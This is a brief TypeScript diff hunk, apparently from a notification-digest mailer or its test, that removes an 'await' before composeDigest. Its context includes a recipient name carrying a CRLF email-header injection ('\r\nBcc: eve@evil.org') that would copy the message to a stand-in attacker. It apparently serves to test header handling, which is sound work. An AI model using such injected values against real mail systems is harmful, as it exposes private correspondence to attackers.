@@ -42,7 +42,7 @@ function notification({
   };
 }
 const send = async (notifications: Notification[], total = notifications.length) => {
-  const composed = await composeDigest({ notifications, total }, links);
+  const composed = composeDigest({ notifications, total }, links);
   const letter = {
     to: { address: "ana@lab.org", name: "Ana\r\nBcc: eve@evil.org" },
     composed,
